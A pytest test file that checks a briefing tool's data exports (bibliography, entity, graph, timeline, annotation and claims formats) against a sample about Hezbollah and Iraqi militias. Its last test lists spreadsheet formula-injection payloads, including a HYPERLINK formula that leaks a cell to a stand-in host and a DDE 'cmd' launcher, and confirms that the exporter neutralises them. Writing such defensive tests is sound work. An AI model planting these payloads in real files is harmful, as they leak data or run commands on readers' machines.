"""Each export of the sample, read back by the library its ecosystem reads it with."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import networkx as nx
import pytest

from briefing.report import check_project
from briefing.views.exports import FORMATS
from conftest import REPOSITORY, console, run

EXPORTED = [name for one in FORMATS.values() for name in one.files]


@pytest.fixture(scope="module")
def sample() -> Any:
    return check_project(REPOSITORY)


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`briefing export all` of a copy of the sample."""
    from sites import copy_project

    project = copy_project(REPOSITORY, tmp_path_factory.mktemp("exports") / "project")
    result = run("export", "all", str(project))
    assert result.exit_code == 0, result.output
    return project / "build" / "exports"


def test_all_writes_every_file_it_lists(exported: Path) -> None:
    assert sorted(p.name for p in exported.iterdir()) == sorted(EXPORTED)


def test_csl_json_makes_a_bibliography_in_citeproc(exported: Path, sample: Any) -> None:
    from citeproc import (
        Citation,
        CitationItem,
        CitationStylesBibliography,
        CitationStylesStyle,
        formatter,
    )
    from citeproc.source.json import CiteProcJSON

    references = json.loads((exported / "sources.csl.json").read_text(encoding="utf-8"))
    source = CiteProcJSON(references)
    style = CitationStylesStyle("harvard-cite-them-right", validate=False)
    bibliography = CitationStylesBibliography(style, source, formatter.plain)
    for reference in references:
        bibliography.register(Citation([CitationItem(reference["id"])]))
    entries = [str(entry) for entry in bibliography.bibliography()]
    sources = sample.index.briefing.sources
    assert len(entries) == len(sources)
    for record in sources.values():
        assert any(record.title in entry and (record.publisher or "") in entry for entry in entries)
    # a source whose capture names no outlet has no publisher, not a placeholder printed as one
    unnamed = next(e for e in entries if "The link between Lebanese Hezbollah" in e)
    assert "nknown" not in unnamed and "outlet" not in unnamed, unnamed
    assert not [r for r in references if "nknown" in r.get("publisher", "")]
    arab_news = next(e for e in entries if "guide Iraqi militias" in e)
    assert arab_news.startswith("Reuters (2020)"), arab_news  # the byline as the author
    # a publication "some time between" is no CSL span ("January-11 February", no year, was
    # printed): dated as far as both ends agree, the range and the update in the note
    item = next(r for r in references if r["id"].startswith("arabnews-2020"))
    assert item["issued"] == {"date-parts": [[2020]]}
    assert (
        "Published between January and 11 February 2020. Updated 11 February 2020."
        in (item["note"])
    )
    # a note is sentences, each ended once ("...the one to cite.; machine translation" was)
    notes = [reference["note"] for reference in references]
    assert not [note for note in notes if ".;" in note or ".." in note or not note.endswith(".")]
    assert any(note.endswith(". Machine translation.") for note in notes)


def test_followthemoney_entities_are_valid_and_refer_to_each_other(
    exported: Path, sample: Any
) -> None:
    from followthemoney import model

    lines = (exported / "entities.ftm.json").read_text(encoding="utf-8").splitlines()
    proxies = [model.get_proxy(json.loads(line)) for line in lines]
    by_id = {proxy.id: proxy for proxy in proxies}
    assert len(by_id) == len(proxies)
    for proxy in proxies:
        assert proxy.schema.validate({"properties": proxy.properties}) is None, proxy.id
        for prop, value in proxy.itervalues():
            if prop.type.name == "entity":  # every reference resolves in the file
                assert value in by_id, (proxy.id, prop.name, value)
    b = sample.index.briefing
    assert by_id["briefing-actor-mohammad-kawtharani"].schema.name == "Person"
    assert by_id["briefing-actor-hezbollah"].schema.is_a("Organization")
    assert by_id["briefing-actor-iran"].schema.name == "PublicBody"
    articles = [p for p in proxies if p.schema.name == "Article"]
    assert len(articles) == len(b.sources)
    # the sample does not publish its sources' full text, on the site or in the data
    assert not sample.settings.publish_full_text
    assert not any(p.get("bodyText") for p in articles)
    links = [p for p in proxies if p.schema.name in ("Membership", "Directorship", "UnknownLink")]
    assert len(links) == sum(
        affiliation.actor in b.actors for a in b.actors.values() for affiliation in a.affiliations
    )
    dated = [p for p in links if p.get("startDate")]
    assert dated, "affiliations with dates keep them"
    for proxy in links + [p for p in proxies if p.schema.name in ("Note", "Event")]:
        # each statement names the articles it rests on, unless it is a judgment
        assert proxy.get("proof") or "judgment" in " ".join(proxy.get("description")), proxy.id
        for proof in proxy.get("proof"):
            assert by_id[proof].schema.name == "Article"
    # a Note is captioned by its words (Aleph captioned each "Note")
    notes = [p for p in proxies if p.schema.name == "Note"]
    assert notes and all(p.caption not in ("", "Note") for p in notes)
    # a range "some time between" keeps both ends, as precise as the record; circa is said
    named = by_id["briefing-event-2020-allawi-named-prime-minister"]
    assert (named.get("startDate"), named.get("endDate")) == (["2020-01"], ["2020-02-11"])
    trained = by_id["briefing-event-mid-2000s-hezbollah-trains-iraqi-shia-fighters"]
    assert trained.get("startDate") == ["2005"]
    assert "The date: c. 2005." in trained.get("notes")
    # a publication "some time between" is dated only as far as both ends agree (the unnamed
    # outlet's, between 11 February and December 2020, was exported as 2020-02-11)
    unnamed = by_id["briefing-source-unnamed-outlet-hezbollah-iraqi-militias-link"]
    translation = by_id["briefing-source-arabnews-hezbollah-guides-militias-machine-translation"]
    assert b.sources["unnamed-outlet-hezbollah-iraqi-militias-link"].published.startswith(
        "2020-02-11/2020-"
    )
    assert unnamed.get("publishedAt") == ["2020"]
    assert "Published between 11 February and December 2020." in unnamed.get("notes")
    assert translation.get("publishedAt") == []  # between 2020 and 2026: no year is known
    # the page's "Updated 11 February 2020" is its modifiedAt; its first publication unknown
    arab_news = by_id["briefing-source-arabnews-2020-02-11-hezbollah-guides-militias"]
    assert (arab_news.get("publishedAt"), arab_news.get("modifiedAt")) == (["2020"], ["2020-02-11"])
    assert by_id["briefing-source-debkaweekly-nasrallah-trouble-shooter-iraq"].get(
        "publishedAt"
    ) == ["2020-01"]


def test_graphml_reads_back_in_networkx_with_what_gephi_needs(exported: Path, sample: Any) -> None:
    graph = nx.read_graphml(exported / "actors.graphml", force_multigraph=True)
    b = sample.index.briefing
    assert set(graph.nodes) == set(b.actors)
    for actor_id, attributes in graph.nodes(data=True):
        assert attributes["label"] == b.actors[actor_id].name
        assert attributes["kind"] == b.actors[actor_id].kind
    assert graph.number_of_edges() == sum(
        affiliation.actor in b.actors for a in b.actors.values() for affiliation in a.affiliations
    )
    # the information's credibility beside the sources' reliability: Nasrallah's office is
    # confirmed (1) by two outlets graded D and F, where grade_number said only "D" (4)
    office = graph.get_edge_data("hassan-nasrallah", "hezbollah")
    assert [(e["grade"], e["grade_number"], e["credibility"]) for e in office.values()] == [
        ("D", 4, 1)
    ]
    for _, _, attributes in graph.edges(data=True):
        assert {"label", "role", "start", "end", "grade", "sources", "weight"} <= set(attributes)
        assert 0 <= attributes["credibility"] <= 6
        assert attributes["weight"] == 1.0
        assert attributes["sources"] or attributes["judgment"]
        # dates as ISO 8601, never the records' "~2020-01", with their precision
        for name in ("start", "end"):
            assert not attributes[name] or re.fullmatch(r"\d{4}(-\d\d){0,2}", attributes[name])
            assert bool(attributes[name]) == bool(attributes[f"{name}_precision"])
    assert any(
        attributes["start_precision"] == "month" for *_, attributes in graph.edges(data=True)
    )
    # the colour Gephi reads (r, g, b): the site's colour of the actor's kind
    from briefing.views.network import COLOURS

    for actor_id, attributes in graph.nodes(data=True):
        shown = "#{:02X}{:02X}{:02X}".format(*(attributes[c] for c in "rgb"))
        assert shown == COLOURS[b.actors[actor_id].kind]


DATE_KEYS = {"year", "month", "day", "hour", "minute", "second", "millisecond", "display_date"}


def _check_timeline_date(date: dict[str, Any]) -> None:
    assert set(date) <= DATE_KEYS
    assert isinstance(date["year"], int)
    if "month" in date:
        assert 1 <= date["month"] <= 12
    if "day" in date:
        assert "month" in date and 1 <= date["day"] <= 31


def test_timelinejs_has_the_documented_shape(exported: Path, sample: Any) -> None:
    document = json.loads((exported / "timeline.json").read_text(encoding="utf-8"))
    assert set(document) <= {"title", "events", "eras", "scale"}
    assert set(document["title"]["text"]) == {"headline", "text"}
    events = document["events"]
    assert len(events) == len(sample.index.briefing.events)
    assert len({event["unique_id"] for event in events}) == len(events)
    for event in events:
        assert set(event) <= {"start_date", "end_date", "text", "media", "unique_id", "group"}
        _check_timeline_date(event["start_date"])
        if "end_date" in event:
            _check_timeline_date(event["end_date"])
        assert set(event["text"]) == {"headline", "text"} and event["text"]["headline"]
        if "media" in event:
            assert set(event["media"]) == {"url", "caption", "credit"}
        else:  # the sample's sources keep no address: the credit is in the text
            assert "<p>Source: " in event["text"]["text"]
    by_id = {event["unique_id"]: event for event in events}
    # a year stands at its end, after the days dated in it, and says only the year
    assert by_id["1982-hezbollah-founded"]["start_date"] == {
        "year": 1982,
        "month": 12,
        "day": 31,
        "display_date": "1982",
    }
    assert by_id["2020-01-03-baghdad-airport-strike"]["start_date"] == {
        "year": 2020,
        "month": 1,
        "day": 3,
        "display_date": "3 January 2020",
    }


def test_timelinejs_credits_a_source_with_an_address(project: Path) -> None:
    source = project / "sources" / "wire-2020-01-10-harbour.md"
    text = source.read_text(encoding="utf-8")
    source.write_text(text.replace("---\n", "---\nurl: https://example.org/a\n", 1))
    assert run("export", "timelinejs", str(project)).exit_code == 0
    document = json.loads((project / "build/exports/timeline.json").read_text(encoding="utf-8"))
    media = [event["media"] for event in document["events"] if "media" in event]
    assert media and media[0]["url"] == "https://example.org/a"
    assert media[0]["credit"] and media[0]["caption"].startswith("\u201c")


def _local_context(url: str, options: Any = None) -> dict[str, Any]:
    from briefing.views.exports.web_annotations import CONTEXT_URL, context_document

    assert url == CONTEXT_URL, f"only the W3C annotation context is loaded, not {url}"
    return {"contextUrl": None, "documentUrl": url, "document": context_document()}


OA = "http://www.w3.org/ns/oa#"


def test_annotations_expand_in_pyld_and_point_at_the_quoted_words(
    exported: Path, sample: Any
) -> None:
    from pyld import jsonld

    document = json.loads((exported / "annotations.jsonld").read_text(encoding="utf-8"))
    expanded = jsonld.expand(document, {"documentLoader": _local_context})
    [collection] = expanded
    page = collection["http://www.w3.org/ns/activitystreams#first"][0]
    items = page["http://www.w3.org/ns/activitystreams#items"][0]["@list"]
    assert len(items) == document["total"] == len(sample.index.excerpts)
    for item in items:
        assert item["@type"] == [OA + "Annotation"]
        assert item[OA + "motivatedBy"] == [{"@id": OA + "commenting"}]
        body = item[OA + "hasBody"][0]
        assert body["@type"] == [OA + "TextualBody"]
        assert body["http://www.w3.org/1999/02/22-rdf-syntax-ns#value"][0]["@value"]
        target = item[OA + "hasTarget"][0]
        assert target[OA + "hasSource"][0]["@id"].startswith(("https://", "http://", "urn:"))
        kinds = {s["@type"][0] for s in target[OA + "hasSelector"]}
        assert kinds == {OA + "TextQuoteSelector", OA + "TextPositionSelector"}
    sources = sample.index.briefing.sources
    for annotation in document["first"]["items"]:  # the compact form, as Hypothesis reads it
        source_id = annotation["target"]["source"].rsplit(":", 1)[1]
        quote, position = annotation["target"]["selector"]
        text = sources[source_id].text
        assert text[position["start"] : position["end"]] == quote["exact"]
        assert text[: position["start"]].endswith(quote["prefix"])
        assert text[position["end"] :].startswith(quote["suffix"])
        assert 0 < len(quote["prefix"]) <= 32 or position["start"] == 0
    # a deprecated judgment's annotations say it was withdrawn, as the site does (a reader
    # of the sample took its citations for those of a standing judgment)
    withdrawn = [
        a["body"]["value"]
        for a in document["first"]["items"]
        if a["body"]["value"].startswith("Both the Reuters report and the Hezbollah source")
    ]
    assert withdrawn and all("(Deprecated 21 November 2026: " in body for body in withdrawn)


def test_claims_table_reads_back_one_row_per_claim(exported: Path, sample: Any) -> None:
    from briefing.views.exports.statements import all_statements

    with (exported / "claims.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    document = json.loads((exported / "claims.json").read_text(encoding="utf-8"))
    statements = list(all_statements(sample.index))
    assert len(rows) == len(document["claims"]) == len(statements)
    assert [row["statement_id"] for row in rows] == [s.statement_id for s in statements]
    assert list(rows[0]) == document["columns"]
    for row, claim in zip(rows, document["claims"], strict=True):
        assert row["text"] == claim["text"] and row["text"]
        assert (row["judgment"] == "yes") == claim["judgment"]
        if claim["judgment"]:
            assert claim["confidence"] in ("high", "moderate", "low")
        else:
            assert claim["citations"] and int(row["origins"]) >= 1
        # each citation brings one origin at most: its source's, or the one it relays (an
        # outlet relaying two reports gives two origins from one source)
        assert int(row["origins"]) == claim["origins"] <= len(claim["citations"])
        assert row["page"].endswith("/")
        assert (REPOSITORY / row["file"]).is_file()
    kinds = {row["kind"] for row in rows}
    assert {"summary", "affiliation", "claim", "paragraph", "key-judgment"} <= kinds
    assert any(row["kind"] == "paragraph" and row["judgment"] == "yes" for row in rows)
    # a brief paragraph is plain text: no citation or link syntax left
    assert not any("[@" in row["text"] or "[[" in row["text"] for row in rows)


def test_exported_text_is_the_words_a_reader_reads(exported: Path, sample: Any) -> None:
    # no Markdown ("**Hezbollah**") and no record ids ("See hezbollah, irgc and ..."): a link
    # is the record's name, as on the page
    ids = {
        record.record_id for record in sample.index.briefing.records() if "-" in record.record_id
    }
    claims = json.loads((exported / "claims.json").read_text(encoding="utf-8"))["claims"]
    annotations = json.loads((exported / "annotations.jsonld").read_text(encoding="utf-8"))
    texts = [row["text"] for row in claims]
    texts += [item["body"]["value"] for item in annotations["first"]["items"]]
    assert texts
    assert [text for text in texts if "**" in text or "`" in text] == []
    assert [text for text in texts if set(re.findall(r"[\w-]+", text)) & ids] == []
    paragraph = next(
        row["text"] for row in claims if row["kind"] == "paragraph" and "Kawtharani" in row["text"]
    )
    assert "Mohammad al-Kawtharani" in paragraph or "Kawtharani" in paragraph


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["export", "bibtex"], "'bibtex' is not one of"),
        (["export", "claims", "{project}", "-o", "-"], "'claims' (claims.csv, claims.json)"),
        (["export", "all", "{project}", "-o", "-"], "every format makes several"),
    ],
)
def test_bad_export_arguments_are_usage_errors(
    project: Path, arguments: list[str], message: str
) -> None:
    result = console(*(a.format(project=project) for a in arguments), cwd=project)
    assert result.returncode == 2, result.stderr
    assert message in result.stderr
    assert "Traceback" not in result.stderr


def test_an_output_that_cannot_be_written_is_a_clear_error(project: Path) -> None:
    (project / "taken").write_text("a file where a folder would go\n")
    result = console("export", "claims", str(project), "-o", str(project / "taken" / "data"))
    assert result.returncode == 1
    assert f"{project / 'taken' / 'data'}: error: cannot write the exports" in result.stderr
    assert "hint:" in result.stderr and "Traceback" not in result.stderr


def test_an_output_through_a_link_is_refused(project: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (project / "out").symlink_to(tmp_path / "elsewhere")
    result = console("export", "csl", str(project), "-o", str(project / "out"))
    assert result.returncode == 1, result.stderr
    assert "'out' is a symbolic link" in result.stdout
    assert not any((tmp_path / "elsewhere").iterdir())


def test_an_output_outside_the_project_is_written_where_it_says(
    project: Path, tmp_path: Path
) -> None:
    # as pandoc or sqlite-utils do: a shared folder, often a link (a synced folder)
    (tmp_path / "synced").mkdir()
    (tmp_path / "shared").symlink_to(tmp_path / "synced")
    result = console("export", "csl", str(project), "-o", str(tmp_path / "shared" / "data"))
    assert result.returncode == 0, result.stderr
    written = json.loads((tmp_path / "synced" / "data" / "sources.csl.json").read_text())
    assert {item["id"] for item in written} == {p.stem for p in (project / "sources").glob("*.md")}


def test_one_format_goes_to_standard_output_with_a_dash(project: Path) -> None:
    result = console("export", "csl", str(project), "-o", "-")
    assert result.returncode == 0, result.stderr
    assert {item["id"] for item in json.loads(result.stdout)}  # only the export on stdout
    assert "0 errors" in result.stderr  # the check's report where it cannot mix with it
    assert not (project / "build" / "exports").exists()


def test_the_site_links_every_export_from_its_data_page(sample_site: Path) -> None:
    page = (sample_site / "data" / "index.html").read_text(encoding="utf-8")
    for name in EXPORTED:
        assert f'href="{name}"' in page
        assert (sample_site / "data" / name).stat().st_size > 0


def test_every_page_an_export_names_is_on_the_built_site(engine_site: tuple[str, Path]) -> None:
    # the claims table and the network file name the page of each record (a brief's page
    # is briefs/<id>/, never briefs/<id>/index/), on either engine
    _, site = engine_site
    claims = json.loads((site / "data" / "claims.json").read_text(encoding="utf-8"))["claims"]
    graph = nx.read_graphml(site / "data" / "actors.graphml")
    pages = {row["page"] for row in claims} | {data["page"] for _, data in graph.nodes(data=True)}
    assert any(page.startswith("briefs/") for page in pages)
    missing = sorted(page for page in pages if not (site / page / "index.html").is_file())
    assert missing == []


FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1, "see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1, 2)",
    "\tTabbed formula =1",
    "\rCarriage =1",
]


def test_claims_csv_writes_no_formula(project: Path) -> None:
    """A claim that a spreadsheet would read as a formula (OWASP: a cell that starts with
    = + - @, tab or CR) is written with a leading ' and reads back as that text; the JSON
    keeps the text as written."""
    actor = project / "actors" / "ana-ruiz.yml"
    claims = "".join(
        f"  - id: formula-{number}\n    text: {json.dumps(text)}\n    judgment: low\n"
        for number, text in enumerate(FORMULAS)
    )
    actor.write_text(actor.read_text(encoding="utf-8") + claims, encoding="utf-8")
    result = run("export", "claims", str(project))
    assert result.exit_code == 0, result.output
    folder = project / "build" / "exports"
    with (folder / "claims.csv").open(encoding="utf-8", newline="") as file:
        cells = {row["statement_id"]: row["text"] for row in csv.DictReader(file)}
    claims_json = json.loads((folder / "claims.json").read_text(encoding="utf-8"))["claims"]
    written = {claim["statement_id"]: claim["text"] for claim in claims_json}
    for number, text in enumerate(FORMULAS):
        key = next(k for k in cells if k.endswith(f"formula-{number}"))
        assert written[key] == text
        assert cells[key] == "'" + text
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells.values())
